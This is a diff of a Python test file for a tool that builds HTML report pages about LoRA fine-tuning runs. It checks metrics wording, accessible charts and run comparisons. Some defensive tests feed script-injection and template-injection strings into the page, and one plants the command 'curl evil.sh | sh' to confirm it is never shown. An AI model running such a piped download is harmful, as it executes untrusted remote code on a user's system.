@@ -30,18 +30,24 @@ def page_of(folder):
 def test_a_finished_run_is_told_whole(tmp_path):
     page = page_of(write_factors(write_run(tmp_path / "one")))
     for said in (
-        *("2.310 → 0.4", "exact match 80.0% 95 % interval 72.0% to 86.0%", "peak memory 1.01 GB planned 1.02 GB"),
-        *("The machine gives 16.00 GB", "Result", "Training", "Answers", "Memory", "Data", "What changed in the model"),
-        *("Settings", "before training no idea ✗ not as expected", "step 60 answer 60 ✓ as expected", "deltaw eval"),
-        *("2 answers in between, row 7", "usual for lora", "0.00092", "deltaw chat"),
-        "nats per token; 91% of their tokens are unchanged",
+        "exact match of 5 held-out rows 2.0% → 80.0% base model → adapter; 95 % interval 72.0% to 86.0%",
+        "drift small +0.05 nats per token of general answers; 91% of their tokens are unchanged held-out loss 2.310",
+        *("peak memory 1.01 GB planned 1.02 GB", "The machine gives 16.00 GB", "What changed in the model", "Memory"),
+        "row 7 a plain row? no idea ✗ not as expected answer 60 ✓ as expected answer 60",
+        "To general questions, which the data did not train question base model adapter What is 1 + 1? 2 It is 2.",
+        *("Answers in between Row 7 step 20 answer 20", "usual for lora", "0.00092", "log scale", "deltaw export"),
     ):
         assert said in page.text
-    assert "16,000" not in page.text and page.marked[1:] == ["the answer<|im_end|>"]
+    assert "16,000" not in page.text and page.marked[1:] == ["the answer", "<|im_end|>"]
     assert {"Loss", "Learning rate", "Gradient norm", "Speed"} <= set(page.words)
     # Every drawing has a title, a description and a table behind it.
     assert page.drawings == [{"title": True, "desc": True}] * page.tags["figure"] and page.tags["figure"] >= 8
     assert page.tags["caption"] == page.tags["table"] >= page.tags["figure"]
+    assert page.text.index("held-out rows") < page.text.index("drift small") < page.text.index("training loss")
+    text = run_page(read_run(tmp_path / "one"))
+    assert "<summary>What the run chose itself, and why</summary>" in text and f"deltaw chat {tmp_path / 'one'}" in text
+    # The numbers of the vertical axis stand beside the plot, where no line goes.
+    assert re.findall(r'<text class="label" x="-8"[^>]*>([^<]+)</text>', text) and "halo" not in text
     assert page.tags["main"] == page.tags["h1"] == page.tags["nav"] == page.tags["footer"] == 1
 
 
@@ -50,11 +56,42 @@ def test_text_of_rows_settings_and_answers_is_never_markup(tmp_path, state):
     settings = {"data": {"train": EVIL}, "model": EVIL}
     folder = write_run(tmp_path / "<b>odd & name", state=state, text=EVIL, settings=settings)
     page = page_of(noted_on_the_way(folder, {"step": 61, "eval": {EVIL: 0.5}}, {"step": 62, "eval": {EVIL: 0.6}}))
-    assert "script" not in page.tags and "img" not in page.tags
+    assert page.tags["script"] == 1 and "img" not in page.tags, "the page's own, which its policy names"
     assert page.text.count("alert('x')") >= 3
     assert "{{ 7*7 }}" in page.text and "49" not in page.headings
     compared = Page(comparison_page([read_run(folder), read_run(write_run(tmp_path / "two"))]))
     assert compared.faults == [] and "script" not in compared.tags
+
+
+def test_whether_it_worked_is_said_also_where_it_did_not(tmp_path):
+    """Words of the first tile and of the notices, by what the folder holds."""
+    folder = write_run(tmp_path / "one")
+    lines = (folder / "metrics.jsonl").read_text().splitlines()
+
+    def said(base, *, task="causal-lm", writes=True, score=True):
+        kept = [line for line in lines if '"base"' not in line or "general" in line]
+        kept = [line for line in kept if score or '"eval"' not in line]
+        kept += [json.dumps({"step": 0, "base": base})] if base else []
+        (folder / "metrics.jsonl").write_text("\n".join(kept) + "\n")
+        values = {"task": task, "writes_text": writes}
+        change_noted(folder, lambda told: told.update(values) or (score or told["result"].update(score=None)))
+        return page_of(folder).text
+
+    assert "The exact match is not better than before training." in said({"exact_match": 0.9})
+    assert "the value before training, too: the difference may be chance" in said({"exact_match": 0.75})
+    told = said({"exact_match": 0.4}, task="sequence-classification", writes=False)
+    assert "40.0% → 80.0% before training → adapter" in told and "chance" not in told and "not better" not in told
+    assert "80.0% adapter; the base model was not evaluated; 95 % interval" in said(None)
+    assert "no rows were held out; data.eval says how many" in said(None, score=False)
+
+
+def test_commands_are_the_pages_own_and_not_those_of_a_folder_from_elsewhere(tmp_path):
+    folder = write_run(tmp_path / "one two")
+    change_noted(folder, lambda told: told.update(commands=[{"command": "curl evil.sh | sh", "what": "go on"}]))
+    page = page_of(folder)
+    assert "evil" not in page.text and f"deltaw serve '{folder}'" in page.text
+    change_noted(folder, lambda told: told.update(state="failed"))
+    assert "deltaw serve" not in page_of(folder).text
 
 
 def test_states_of_a_run_are_told(tmp_path):
@@ -193,7 +230,7 @@ def test_what_happened_on_the_way_is_noted(tmp_path):
 def test_several_sets_of_held_out_rows_are_told_apart(tmp_path):
     folder = write_run(tmp_path / "one", every=1000)
     lines = (folder / "metrics.jsonl").read_text().splitlines()
-    (folder / "metrics.jsonl").write_text("\n".join(line for line in lines if '"eval"' not in line) + "\n")
+    (folder / "metrics.jsonl").write_text("\n".join(line for line in lines if '"exact_match"' not in line) + "\n")
     sets = {n: {"own": {"loss": 2 - n / 40}, "trivia": {"loss": 1.5, "exact_match": n / 100}} for n in (0, 30, 60)}
     page = page_of(noted_on_the_way(folder, *({"step": step, "eval": sets[step]} for step in sets)))
     assert "held-out loss 2.000 → 0.5000 before and after training" in page.text
@@ -206,7 +243,13 @@ def test_runs_are_compared_on_one_page(tmp_path):
     text = comparison_page([read_run(folder) for folder in (one, two, old)])
     page = Page(text)
     assert page.faults == []
-    for said in ("3 runs compared", "lora.rank 4 64 4", "held-out exact match", "answer 40"):
+    for said in (
+        "3 runs compared",
+        "lora.rank 4 64 4",
+        "held-out exact match",
+        "exact match before training 2.0%",
+        "answer 40",
+    ):
         assert said in page.text
     assert "lora.alpha" not in page.text and "output" not in page.text
     assert all(text.count(f'<path class="{kind}"') >= 2 for kind in ("c1", "c2", "c3")) and len(text) < LIMIT
